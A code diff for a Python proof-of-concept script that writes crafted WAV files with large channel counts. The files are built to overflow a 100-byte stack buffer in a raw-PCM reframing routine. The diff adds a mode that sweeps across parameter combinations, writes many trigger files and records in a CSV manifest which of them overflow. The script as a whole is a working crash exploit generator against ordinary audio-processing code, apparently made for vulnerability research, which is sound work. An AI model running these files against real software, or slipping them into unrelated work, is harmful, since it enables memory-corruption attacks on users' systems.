@@ -1,42 +1,115 @@
 #!/usr/bin/env python3
+import argparse
+import csv
+import itertools
+import os
 import struct
+import sys
+from concurrent.futures import ProcessPoolExecutor
+from pathlib import Path
 
-def make_wav(path="poc_rfpcm_reverse_stack_overflow.wav",
-             channels=64, sample_rate=44100, bits_per_sample=16,
-             num_samples=1024):
-    assert bits_per_sample in (8, 16, 24, 32, 64)
+sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+from poclib.cli import parse_values
+
+# RIFF header + fmt chunk + data chunk header, packed in one call
+WAV_HEADER = struct.Struct("<4sI4s" "4sIHHIIHH" "4sI")
+
+# reframe_rawpcm.c swaps samples through `char store[100]`
+STORE_SIZE = 100
+
+def wav_header(channels, sample_rate, bits_per_sample, num_samples):
     bps = bits_per_sample // 8
     block_align = channels * bps
     byte_rate = sample_rate * block_align
 
     # num_samples is per-channel samples
     data_size = num_samples * block_align
-    data = b"\x00" * data_size
-
-    fmt_chunk = struct.pack(
-        "<4sIHHIIHH",
+    riff_size = 4 + (8 + 16) + (8 + data_size)  # "WAVE" + chunks
+    header = WAV_HEADER.pack(
+        b"RIFF", riff_size, b"WAVE",
         b"fmt ", 16,          # chunk id + size
         1,                    # audio format = PCM
         channels,
         sample_rate,
         byte_rate,
         block_align,
-        bits_per_sample
+        bits_per_sample,
+        b"data", data_size,
     )
-    data_chunk = struct.pack("<4sI", b"data", data_size) + data
-
-    riff_size = 4 + len(fmt_chunk) + len(data_chunk)  # "WAVE" + chunks
-    header = struct.pack("<4sI4s", b"RIFF", riff_size, b"WAVE")
+    return header, data_size
 
+def write_wav(path, channels, sample_rate, bits_per_sample, num_samples):
+    assert bits_per_sample in (8, 16, 24, 32, 64)
+    header, data_size = wav_header(channels, sample_rate, bits_per_sample, num_samples)
     with open(path, "wb") as f:
         f.write(header)
-        f.write(fmt_chunk)
-        f.write(data_chunk)
+        # zero-filled data chunk without building it in memory; sparse where
+        # the filesystem supports it
+        f.truncate(len(header) + data_size)
+    return data_size
+
+def make_wav(path="poc_rfpcm_reverse_stack_overflow.wav",
+             channels=64, sample_rate=44100, bits_per_sample=16,
+             num_samples=1024):
+    write_wav(path, channels, sample_rate, bits_per_sample, num_samples)
 
     print("[+] wrote", path)
     print("    channels =", channels)
     print("    bps      =", bits_per_sample)
     print("    bytes/sample(all channels) =", channels * (bits_per_sample // 8), " (must > 100)")
 
+def _sweep_one(job):
+    out_dir, channels, bits_per_sample, num_samples, sample_rate = job
+    name = f"rfpcm_c{channels}_b{bits_per_sample}_n{num_samples}.wav"
+    data_size = write_wav(os.path.join(out_dir, name), channels, sample_rate, bits_per_sample, num_samples)
+    block_align = channels * (bits_per_sample // 8)
+    return {
+        "file": name,
+        "channels": channels,
+        "bits_per_sample": bits_per_sample,
+        "num_samples": num_samples,
+        "sample_rate": sample_rate,
+        "block_align": block_align,
+        "data_size": data_size,
+        "overflows_store": int(block_align > STORE_SIZE),
+    }
+
+def sweep(out_dir, channels, bits, num_samples, sample_rate=44100, workers=None,
+          manifest="manifest.csv"):
+    """Write one WAV per (channels, bits_per_sample, num_samples) combination
+    and a CSV manifest of the parameters behind every file."""
+    os.makedirs(out_dir, exist_ok=True)
+    jobs = [(out_dir, c, b, n, sample_rate) for c, b, n in itertools.product(channels, bits, num_samples)]
+    with ProcessPoolExecutor(max_workers=workers) as ex:
+        rows = list(ex.map(_sweep_one, jobs, chunksize=max(1, len(jobs) // (4 * (workers or os.cpu_count() or 1)))))
+    with open(os.path.join(out_dir, manifest), "w", newline="") as f:
+        w = csv.DictWriter(f, fieldnames=list(rows[0]) if rows else ["file"])
+        w.writeheader()
+        w.writerows(rows)
+    return rows
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--out", default="poc_rfpcm_reverse_stack_overflow.wav")
+    ap.add_argument("--sweep", metavar="DIR", help="write a parameter grid into DIR instead of one file")
+    ap.add_argument("--channels", default="64", help="e.g. 64 or 1-128 or 1-128/4")
+    ap.add_argument("--bits", default="16", help="subset of 8,16,24,32,64")
+    ap.add_argument("--num-samples", default="1024")
+    ap.add_argument("--sample-rate", type=int, default=44100)
+    ap.add_argument("--workers", type=int, default=None)
+    args = ap.parse_args()
+
+    if not args.sweep:
+        make_wav(args.out, int(args.channels, 0), args.sample_rate, int(args.bits, 0), int(args.num_samples, 0))
+        return
+
+    bits = parse_values(args.bits)
+    if any(b not in (8, 16, 24, 32, 64) for b in bits):
+        raise SystemExit("bits must be among 8,16,24,32,64")
+    rows = sweep(args.sweep, parse_values(args.channels), bits, parse_values(args.num_samples),
+                 args.sample_rate, args.workers)
+    hits = sum(r["overflows_store"] for r in rows)
+    print(f"[+] wrote {len(rows)} files to {args.sweep} ({hits} with bytes/sample > {STORE_SIZE})")
+
 if __name__ == "__main__":
-    make_wav()
+    main()